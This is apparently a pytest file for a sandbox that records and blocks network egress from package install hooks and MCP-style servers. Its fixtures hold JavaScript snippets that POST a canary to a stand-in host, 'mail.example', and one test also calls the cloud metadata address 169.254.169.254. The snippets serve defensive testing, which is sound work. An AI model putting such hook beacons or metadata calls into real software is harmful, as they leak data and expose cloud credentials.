"""What a hook and a server send is recorded with its name, its decision and its bytes. Nobody outside is dialled."""

import hashlib
import http.server
import json
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from e2e.bench import Bench, Reviewed

pytestmark = pytest.mark.sandbox
Make = Callable[..., Path]

POST = """
const post = (host, path, done) => {
  const request = require("node:http").request({ host, port: 80, method: "POST", path, timeout: 5000 }, (answer) => {
    answer.resume().on("end", () => done("answered"));
  });
  request.on("error", (error) => done(error.code));
  request.end("field=canary-of-this-test");
};
"""
HOOK = POST + 'post("mail.example", "/from-the-hook", (end) => process.stderr.write(end + "\\n"));\n'
SERVER = """
const start = () => {
  const say = (message) => process.stdout.write(JSON.stringify({ jsonrpc: "2.0", ...message }) + "\\n");
  const serverInfo = { name: "posting", version: "1.0.0" };
  require("node:readline").createInterface({ input: process.stdin }).on("line", (line) => {
    const { id, method } = JSON.parse(line);
    const result = { protocolVersion: "2025-06-18", capabilities: {}, serverInfo };
    if (method === "initialize") say({ id, result });
  });
};
"""
POSTING = POST + SERVER + 'post("mail.example", "/from-the-server", start);\n'


@dataclass
class Mail:
    """What arrived at the one server of the outer world."""

    port: int
    requests: list[tuple[str, str, bytes]] = field(default_factory=list)  # Host, path, body


@pytest.fixture
def mail() -> Iterator[Mail]:
    """A web server on loopback, which stands for every address outside."""
    seen = Mail(port=0)

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"]))
            seen.requests.append((self.headers["Host"], self.path, body))
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the name that the base class gives it
            del format, args

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    seen.port = server.server_address[1]
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield seen
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def outside(bench: Bench, mail: Mail) -> Bench:
    """A bench with an outer world of one public name, one private one, and one server."""
    bench.outer.names = {"mail.example": ["93.184.216.34"], "private.example": ["10.1.2.3"]}
    bench.outer.port = mail.port
    return bench


def connections(review: Reviewed, phase: str) -> list[tuple[str, int, str]]:
    """Name, port and decision of each connection that the relay saw."""
    seen = review.details("network.connect", phase, "egress")
    return [(d.get("name") or d["address"], d["port"], d["decision"]) for d in seen]


@pytest.mark.threat("R3")
@pytest.mark.parametrize("mode", ["OPEN", pytest.param("ALLOWLIST", marks=pytest.mark.long)])
def test_what_is_sent_outside_is_recorded_in_its_phase(outside: Bench, mail: Mail, target: Make, mode: str) -> None:
    allow = ["mail.example:80"] if mode == "ALLOWLIST" else None
    review = outside.folder(target({"hook.js": HOOK, "server.js": POSTING}), network_mode=mode, allow=allow)
    assert review.ended == ("COMPLETED", "")
    assert [path for _, path, _ in mail.requests] == ["/from-the-hook", "/from-the-server"]
    for phase, path in (("INSTALL", "/from-the-hook"), ("EXERCISE", "/from-the-server")):
        assert connections(review, phase) == [("mail.example", 80, "relayed")]
        (connected,) = review.details("network.connect", phase, "egress")
        assert connected["up_bytes"] > len("field=canary-of-this-test")
        assert connected["down_bytes"] > 0
        assert connected["peer"] == "93.184.216.34"
        assert "mail.example" in {d["name"] for d in review.details("network.dns", phase)}
        (request,) = review.details("network.http", phase)
        assert (request["method"], request["target"], request["host"]) == ("POST", path, "mail.example")
        assert (request["body"], request["complete"]) == ("field=canary-of-this-test", True)
    assert outside.outer.dialled == [("93.184.216.34", 80)] * 2


@pytest.mark.threat("R20")
def test_in_sinkhole_everything_is_answered_and_recorded_and_nothing_leaves(
    outside: Bench, mail: Mail, target: Make
) -> None:
    review = outside.folder(target({"hook.js": HOOK, "server.js": POSTING}), network_mode="SINKHOLE")
    assert review.ended == ("COMPLETED", "")
    assert (mail.requests, outside.outer.dialled, outside.outer.asked) == ([], [], [])
    for phase, path in (("INSTALL", "/from-the-hook"), ("EXERCISE", "/from-the-server")):
        assert connections(review, phase) == [("mail.example", 80, "answered")]
        (request,) = review.details("network.http", phase)
        assert (request["target"], request["body"]) == (path, "field=canary-of-this-test")
        assert request["body_sha256"] == hashlib.sha256(b"field=canary-of-this-test").hexdigest()
    assert "answered" in "".join(d["text"] for d in review.details("output.text", "INSTALL"))


@pytest.mark.threat("R3")
def test_what_is_not_listed_is_refused_and_recorded(outside: Bench, mail: Mail, target: Make) -> None:
    place = target({"hook.js": HOOK, "server.js": POSTING})
    review = outside.folder(place, network_mode="ALLOWLIST", allow=["other.example:443"])
    assert review.ended == ("COMPLETED", "")
    assert connections(review, "INSTALL") == [("mail.example", 80, "refused")]
    assert connections(review, "EXERCISE") == [("mail.example", 80, "refused")]
    assert (mail.requests, outside.outer.dialled) == ([], [])


@pytest.mark.threat("R3")
def test_without_a_network_the_name_is_recorded_and_nothing_leaves(outside: Bench, mail: Mail, target: Make) -> None:
    review = outside.folder(target({"server.js": POSTING}))
    assert review.ended == ("COMPLETED", "")
    assert {d["name"] for d in review.details("network.dns", "EXERCISE")} == {"mail.example"}
    assert (mail.requests, outside.outer.dialled, outside.outer.asked) == ([], [], [])


@pytest.mark.threat("R3")
def test_an_open_network_leads_to_no_private_address(outside: Bench, mail: Mail, target: Make) -> None:
    metadata = 'start);\npost("169.254.169.254", "/", () => {});'
    server = POSTING.replace("mail.example", "private.example").replace("start);", metadata)
    review = outside.folder(target({"server.js": server}), network_mode="OPEN", linger_seconds=1)
    assert review.ended == ("COMPLETED", "")
    decided = {name: decision for name, _, decision in connections(review, "EXERCISE")}
    assert decided["private.example"] == "refused"
    assert "169.254.169.254" in json.dumps([*review.rows("network.connect"), *review.rows("network.other")])
    assert "relayed" not in decided.values()
    assert (mail.requests, outside.outer.dialled) == ([], [])
